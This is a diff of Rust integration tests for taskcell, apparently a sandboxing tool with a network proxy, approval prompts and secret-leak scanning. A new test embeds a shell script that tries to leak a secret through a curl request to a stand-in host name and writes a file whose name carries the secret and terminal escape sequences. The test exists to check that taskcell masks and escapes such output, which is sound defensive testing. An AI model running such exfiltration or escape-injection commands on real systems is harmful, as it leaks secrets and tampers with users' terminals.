@@ -528,7 +528,7 @@ fn ask_with_an_approval_command() {
             log.display()
         ),
     );
-    let audit = ws.join("audit.log");
+    let audit = ws.outside("audit.log");
     let o = taskcell(
         ws.path(),
         &[
@@ -567,7 +567,7 @@ fn ask_with_an_approval_command() {
 fn ask_answered_with_taskcell_approve_and_denied_on_timeout() {
     let port = http_server();
     let ws = Ws::new();
-    let rt = ws.join("xdg");
+    let rt = ws.outside("xdg");
     std::fs::create_dir(&rt).expect("mkdir");
     std::fs::set_permissions(&rt, std::fs::Permissions::from_mode(0o700)).expect("chmod");
     let prof = profile(
@@ -603,13 +603,18 @@ fn ask_answered_with_taskcell_approve_and_denied_on_timeout() {
             .output()
             .expect("sessions");
         let s = stdout(&o);
-        if s.contains(&format!("pending asked.test:{port}")) {
-            let id = s
-                .lines()
-                .find_map(|l| l.strip_prefix("session "))
-                .and_then(|l| l.split('\t').next())
-                .expect("session line")
-                .to_string();
+        // `sessions` lists every session of this user (other tests' too): take the one
+        // whose block holds the pending request.
+        let mut current = None;
+        let mut found = None;
+        for l in s.lines() {
+            if let Some(rest) = l.strip_prefix("session ") {
+                current = rest.split('\t').next().map(str::to_string);
+            } else if l.starts_with(&format!("pending asked.test:{port}\t")) {
+                found = current.clone();
+            }
+        }
+        if let Some(id) = found {
             break id;
         }
         std::thread::sleep(Duration::from_millis(100));
@@ -632,7 +637,7 @@ fn ask_answered_with_taskcell_approve_and_denied_on_timeout() {
     assert_eq!(d.permissions().mode() & 0o777, 0o700);
 
     // Nobody answers: denied when the (short) timeout ends.
-    let audit = ws.join("audit.log");
+    let audit = ws.outside("audit.log");
     let prof = profile(
         &ws,
         &format!("allow = [\"127.0.0.1:{port}\"]\nresolve = {{ \"late.test\" = \"127.0.0.1\" }}\nask = true\nask_timeout = \"1s\"\n"),
@@ -911,17 +916,55 @@ fn ask_on_the_launching_terminal() {
         .spawn()
         .expect("script (util-linux)");
     let mut input = child.stdin.take().expect("stdin");
-    input.write_all(b"y\nn\n").expect("type");
-    let mut out = String::new();
-    child
-        .stdout
-        .take()
-        .expect("stdout")
-        .read_to_string(&mut out)
-        .expect("read");
+    let screen = std::sync::Arc::new(std::sync::Mutex::new(String::new()));
+    let mut so = child.stdout.take().expect("stdout");
+    let sc = screen.clone();
+    let reader = std::thread::spawn(move || {
+        let mut b = [0u8; 4096];
+        loop {
+            match so.read(&mut b) {
+                Ok(0) | Err(_) => break,
+                Ok(n) => sc
+                    .lock()
+                    .unwrap()
+                    .push_str(&String::from_utf8_lossy(&b[..n])),
+            }
+        }
+    });
+    // The answer is the code shown in the question, then a choice key; `y` Enter and a
+    // terminal's reply typed first change nothing.
+    let code_after = |question: &str| -> String {
+        let start = std::time::Instant::now();
+        loop {
+            let text = screen.lock().unwrap().clone();
+            if let Some(q) = text.find(question) {
+                if let Some(at) = text[q..].find("? type ") {
+                    let at = q + at + 7;
+                    if text.len() >= at + 2 {
+                        return text[at..at + 2].to_string();
+                    }
+                }
+            }
+            assert!(start.elapsed() < Duration::from_secs(20), "{text}");
+            std::thread::sleep(Duration::from_millis(20));
+        }
+    };
+    let code = code_after("allow yes.test");
+    input.write_all(b"y\n\x1b[?64;1c").expect("type");
+    input
+        .write_all(format!("{code}o").as_bytes())
+        .expect("type");
+    input.flush().expect("flush");
+    let code = code_after("allow no.test");
+    input
+        .write_all(format!("{code}d").as_bytes())
+        .expect("type");
+    input.flush().expect("flush");
+    reader.join().expect("reader");
+    let out = screen.lock().unwrap().clone();
     drop(input);
     assert!(child.wait().expect("wait").success(), "{out}");
-    assert!(out.contains("allow the cell to reach yes.test"), "{out}");
+    assert!(out.contains("allow yes.test"), "{out}");
     assert!(out.contains("request: GET /tty"), "{out}");
     assert!(
         out.contains("denied by the terminal") && out.contains(" 403"),
@@ -930,10 +973,88 @@ fn ask_on_the_launching_terminal() {
 }
 
 #[test]
+fn what_the_cell_names_is_masked_and_escaped_on_stderr_and_in_the_audit_log() {
+    // The attack: the cell makes taskcell repeat its words. A request to
+    // `<secret>.example.test` (refused: taskcell says so on stderr and in the audit log)
+    // and a file named with the secret and terminal escapes, holding the secret (the
+    // leak scan reports its path).
+    let ws = Ws::new();
+    let prof = profile(&ws, "allow = []\n");
+    let log = ws.outside("audit.jsonl").display().to_string();
+    let value = "q7secretvalue42";
+    let script = "curl -s -o /dev/null http://$TC_LEAK.example.test/; \
+         f=$(printf 'x-%s-\\033]0;pwned\\007\\033[2J\\r.txt' \"$TC_LEAK\"); \
+         echo \"$TC_LEAK\" > \"$f\"; echo done";
+    let o = taskcell(
+        ws.path(),
+        &[
+            "run",
+            "-p",
+            &prof,
+            "--audit-log",
+            &log,
+            "--secret",
+            "TC_LEAK=env:TC_LEAK_VALUE",
+            "--secret-opt",
+            "TC_LEAK.deliver=env",
+            "--",
+            "/bin/sh",
+            "-c",
+            script,
+        ],
+    )
+    .env("TC_LEAK_VALUE", value)
+    .output()
+    .expect("run");
+    let err = String::from_utf8_lossy(&o.stderr).into_owned();
+    let audit = std::fs::read_to_string(&log).expect("audit log");
+    assert!(stdout(&o).contains("done"), "{err}");
+    // taskcell did speak about both.
+    assert!(err.contains("[taskcell:TC_LEAK].example.test"), "{err}");
+    assert!(err.contains("leak: "), "{err}");
+    assert!(audit.contains("[taskcell:TC_LEAK].example.test"), "{audit}");
+    assert!(audit.contains("\"secret_leak\""), "{audit}");
+    for (what, text) in [("stderr", &err), ("audit log", &audit)] {
+        assert!(!text.contains(value), "{what} holds the value: {text}");
+        assert!(!text.contains('\x1b'), "{what} holds ESC: {text:?}");
+        assert!(!text.contains('\r'), "{what} holds CR: {text:?}");
+        assert!(!text.contains('\x07'), "{what} holds BEL: {text:?}");
+    }
+    // Shown escaped, not dropped.
+    assert!(err.contains("\\x1b]0;pwned\\x07"), "{err}");
+    // The JSON escape of a control byte is not there either.
+    assert!(!audit.contains("\\u001b"), "{audit}");
+}
+
+#[test]
+fn the_proxy_serves_no_more_connections_at_once_than_the_cell_may_have_processes() {
+    // Each served connection is a thread of taskcell's: they count against the cell.
+    let port = echo_server();
+    let ws = Ws::new();
+    let prof = profile(&ws, &format!("{}\n[limits]\nprocesses = 32\n", allow(port)));
+    let o = probe_in_cell(&ws, &prof, "concurrent", &format!("example.test:{port} 20"));
+    assert_eq!(
+        probe_lines(&o),
+        vec!["concurrent ok 20".to_string()],
+        "{o:?}"
+    );
+    let o = probe_in_cell(
+        &ws,
+        &prof,
+        "concurrent",
+        &format!("example.test:{port} 100"),
+    );
+    assert!(
+        probe_lines(&o).is_empty(),
+        "100 connections served at once: {o:?}"
+    );
+}
+
+#[test]
 fn learn_allows_every_host_audits_each_and_prints_a_paste_ready_block() {
     let port = http_server();
     let ws = Ws::new();
-    let log = ws.join("audit.jsonl");
+    let log = ws.outside("audit.jsonl");
     let allow_addr = format!("127.0.0.1:{port}");
     // `build` has no network: --learn turns the proxy on and allows names nobody listed.
     let o = taskcell(
@@ -1013,7 +1134,7 @@ fn learn_allows_every_host_audits_each_and_prints_a_paste_ready_block() {
 #[test]
 fn a_tool_that_ignores_the_proxy_is_told_which_host_and_what_to_set() {
     let ws = Ws::new();
-    let log = ws.join("audit.jsonl");
+    let log = ws.outside("audit.jsonl");
     // getent resolves like any libc tool; the python part sends a query whose name holds
     // a terminal escape, which must never reach the user's terminal.
     let script = "getent hosts direct.example; echo getent=$?; \
@@ -1072,28 +1193,4 @@ r=s.recv(512); print(\"rcode\", r[3] & 15)'";
         "getent hosts direct.example; echo $?",
     );
     assert!(!stderr(&o).contains("direct.example"), "{}", stderr(&o));
-}
-
-#[test]
-fn the_proxy_serves_no_more_connections_at_once_than_the_cell_may_have_processes() {
-    // Each served connection is a thread of taskcell's: they count against the cell.
-    let port = echo_server();
-    let ws = Ws::new();
-    let prof = profile(&ws, &format!("{}\n[limits]\nprocesses = 32\n", allow(port)));
-    let o = probe_in_cell(&ws, &prof, "concurrent", &format!("example.test:{port} 20"));
-    assert_eq!(
-        probe_lines(&o),
-        vec!["concurrent ok 20".to_string()],
-        "{o:?}"
-    );
-    let o = probe_in_cell(
-        &ws,
-        &prof,
-        "concurrent",
-        &format!("example.test:{port} 100"),
-    );
-    assert!(
-        probe_lines(&o).is_empty(),
-        "100 connections served at once: {o:?}"
-    );
 }
